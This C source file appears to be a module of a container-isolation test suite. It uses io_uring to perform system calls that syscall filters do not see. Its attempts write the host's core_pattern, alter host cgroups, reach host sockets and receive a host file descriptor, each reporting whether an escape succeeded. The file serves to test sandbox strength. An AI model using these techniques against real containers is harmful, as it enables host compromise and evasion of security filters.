// SPDX-License-Identifier: GPL-2.0-only
/*
 * System calls by io_uring: a worker thread of the kernel does them for us, and
 * no filter of system calls sees them.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/openat2.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "breakout.h"

#define CORE_PATTERN	"/proc/sys/kernel/core_pattern"
#define SPARE_GROUP	"/sys/fs/cgroup/" SPARE

/**
 * struct ring - an io_uring with room for one request
 *
 * @fd: its descriptor
 * @params: where what is
 * @sq: requests
 * @cq: results
 * @sqe: the request
 */
struct ring {
	int fd;
	struct io_uring_params params;
	char *sq;
	char *cq;
	struct io_uring_sqe *sqe;
};

static int ring_open(struct ring *ring)
{
	const int prot = PROT_READ | PROT_WRITE;
	const int flags = MAP_SHARED | MAP_POPULATE;

	memset(ring, 0, sizeof(*ring));
	ring->fd = syscall(SYS_io_uring_setup, 1, &ring->params);
	if (ring->fd < 0)
		return -1;
	ring->sq = mmap(NULL, 4096, prot, flags, ring->fd, IORING_OFF_SQ_RING);
	ring->cq = mmap(NULL, 4096, prot, flags, ring->fd, IORING_OFF_CQ_RING);
	ring->sqe = mmap(NULL, 4096, prot, flags, ring->fd, IORING_OFF_SQES);
	return 0;
}

/* Not in the thread that asks, but in a worker. */
static int ring_do(const struct io_uring_sqe *sqe)
{
	struct io_uring_cqe *cqe;
	struct ring ring;

	if (ring_open(&ring))
		return -1;
	*ring.sqe = *sqe;
	ring.sqe->flags |= IOSQE_ASYNC;
	*(unsigned int *)(ring.sq + ring.params.sq_off.array) = 0;
	__atomic_add_fetch((unsigned int *)(ring.sq +
					    ring.params.sq_off.tail), 1,
			   __ATOMIC_SEQ_CST);
	if (syscall(SYS_io_uring_enter, ring.fd, 1, 1, IORING_ENTER_GETEVENTS,
		    NULL, 0) < 0)
		return -1;
	cqe = (struct io_uring_cqe *)(ring.cq + ring.params.cq_off.cqes);
	close(ring.fd);
	errno = cqe->res < 0 ? -cqe->res : 0;
	return cqe->res < 0 ? -1 : cqe->res;
}

static enum breakout_outcome wrote_core(int fd)
{
	enum breakout_outcome outcome;

	if (fd < 0)
		return breakout_failed("io_uring");
	outcome = breakout_write_value(fd, "core_pattern", "breakout.%p");
	close(fd);
	return outcome;
}

static enum breakout_outcome core_openat(const struct breakout_attempt *attempt)
{
	const struct io_uring_sqe sqe = {
		.opcode = IORING_OP_OPENAT,
		.fd = AT_FDCWD,
		.addr = (unsigned long)CORE_PATTERN,
		.open_flags = O_RDWR,
	};

	(void)attempt;
	return wrote_core(ring_do(&sqe));
}

static enum breakout_outcome core_openat2(const struct breakout_attempt *a)
{
	const struct open_how how = { .flags = O_RDWR };
	const struct io_uring_sqe sqe = {
		.opcode = IORING_OP_OPENAT2,
		.fd = AT_FDCWD,
		.addr = (unsigned long)CORE_PATTERN,
		.len = sizeof(how),
		.off = (unsigned long)&how,
	};

	(void)a;
	return wrote_core(ring_do(&sqe));
}

static enum breakout_outcome group_mkdir(const struct breakout_attempt *attempt)
{
	static const char path[] = "/sys/fs/cgroup/breakout-uring";
	const struct io_uring_sqe sqe = {
		.opcode = IORING_OP_MKDIRAT,
		.fd = AT_FDCWD,
		.addr = (unsigned long)path,
		.len = 0755,
	};

	(void)attempt;
	if (ring_do(&sqe))
		return breakout_failed("io_uring");
	if (rmdir(path))
		return breakout_untried("it is not there");
	return breakout_escaped("made a cgroup at the top");
}

static enum breakout_outcome group_rmdir(const struct breakout_attempt *attempt)
{
	const struct io_uring_sqe sqe = {
		.opcode = IORING_OP_UNLINKAT,
		.fd = AT_FDCWD,
		.addr = (unsigned long)SPARE_GROUP,
		.unlink_flags = AT_REMOVEDIR,
	};

	(void)attempt;
	if (ring_do(&sqe))
		return breakout_failed("io_uring");
	if (mkdir(SPARE_GROUP, 0755) ||
	    setxattr(SPARE_GROUP, SPARE_XATTR, "1", 1, 0))
		return breakout_untried("it does not come back");
	return breakout_escaped("removed a cgroup of the host");
}

static enum breakout_outcome group_rename(const struct breakout_attempt *a)
{
	const char *dir = access(CGROUP1, F_OK) ? HOST_CGROUP1 : CGROUP1;
	char from[128], to[128];
	const struct io_uring_sqe sqe = {
		.opcode = IORING_OP_RENAMEAT,
		.fd = AT_FDCWD,
		.addr = (unsigned long)from,
		.len = AT_FDCWD,
		.off = (unsigned long)to,
	};

	(void)a;
	snprintf(from, sizeof(from), "%s/" SPARE, dir);
	snprintf(to, sizeof(to), "%s/renamed", dir);
	if (ring_do(&sqe))
		return breakout_failed("io_uring");
	if (rename(to, from))
		return breakout_untried("it does not come back");
	return breakout_escaped("renamed a cgroup of the host");
}

static enum breakout_outcome group_mark(const struct breakout_attempt *attempt)
{
	static const char name[] = "trusted.breakout";
	const struct io_uring_sqe sqe = {
		.opcode = IORING_OP_SETXATTR,
		.addr = (unsigned long)name,
		.len = 1,
		.off = (unsigned long)"1",
		.addr3 = (unsigned long)SPARE_GROUP,
	};

	(void)attempt;
	if (ring_do(&sqe))
		return breakout_failed("io_uring");
	if (removexattr(SPARE_GROUP, name))
		return breakout_untried("it did not stay");
	return breakout_escaped("marked a cgroup of the host");
}

static int reach(const struct sockaddr_un *at, socklen_t len)
{
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	const struct io_uring_sqe sqe = {
		.opcode = IORING_OP_CONNECT,
		.fd = fd,
		.addr = (unsigned long)at,
		.off = len,
	};

	return ring_do(&sqe) ? -1 : fd;
}

static enum breakout_outcome abstract(const struct breakout_attempt *attempt)
{
	static const char name[] = "\0" DOOR_ABSTRACT;
	struct sockaddr_un at = { .sun_family = AF_UNIX };
	int fd;

	(void)attempt;
	memcpy(at.sun_path, name, sizeof(name) - 1);
	fd = reach(&at, offsetof(struct sockaddr_un, sun_path) +
		   sizeof(name) - 1);
	if (fd < 0)
		return breakout_failed("io_uring");
	close(fd);
	return breakout_escaped("reached a service of the host");
}

/* As breakout_receive(), but for who takes it. */
static enum breakout_outcome receive(const struct breakout_attempt *attempt)
{
	struct sockaddr_un at = { .sun_family = AF_UNIX };
	union {
		struct cmsghdr head;
		char space[CMSG_SPACE(sizeof(int))];
	} control = { };
	char byte = DOOR_ROOT;
	struct iovec data = { .iov_base = &byte, .iov_len = 1 };
	struct msghdr message = {
		.msg_iov = &data,
		.msg_iovlen = 1,
		.msg_control = &control,
		.msg_controllen = sizeof(control),
	};
	struct io_uring_sqe sqe = {
		.opcode = IORING_OP_RECVMSG,
		.addr = (unsigned long)&message,
		.len = 1,
	};
	int fd;

	(void)attempt;
	snprintf(at.sun_path, sizeof(at.sun_path), "%s/" DOOR,
		 breakout_volume());
	sqe.fd = reach(&at, sizeof(at));
	if (sqe.fd < 0 || write(sqe.fd, &byte, 1) != 1)
		return breakout_untried("nobody answers");
	if (ring_do(&sqe) < 0)
		return breakout_failed("io_uring");
	if (!CMSG_FIRSTHDR(&message)) {
		errno = message.msg_flags & MSG_CTRUNC ? EPERM : ENOMSG;
		return breakout_failed("io_uring");
	}
	memcpy(&fd, CMSG_DATA(&control.head), sizeof(fd));
	return breakout_prove_at(fd, &HOST_SECRET[1], &HOST_MARK[1]);
}

const struct breakout_attempt breakout_ring[] = {
	{ "core-pattern-uring", "write core_pattern through io_uring",
	  core_openat },
	{ "core-pattern-uring2", "the same by openat2()", core_openat2 },
	{ "cgroup2-mkdir-uring", "make a cgroup of the host through io_uring",
	  group_mkdir },
	{ "cgroup2-rmdir-uring", "remove one", group_rmdir },
	{ "cgroup1-rename-uring", "rename one", group_rename },
	{ "cgroup2-xattr-uring", "mark one", group_mark },
	{ "abstract-socket-uring", "an abstract socket of the host", abstract },
	{ "received-root-uring", "the host's files by a directory received",
	  receive },
	{ }
};
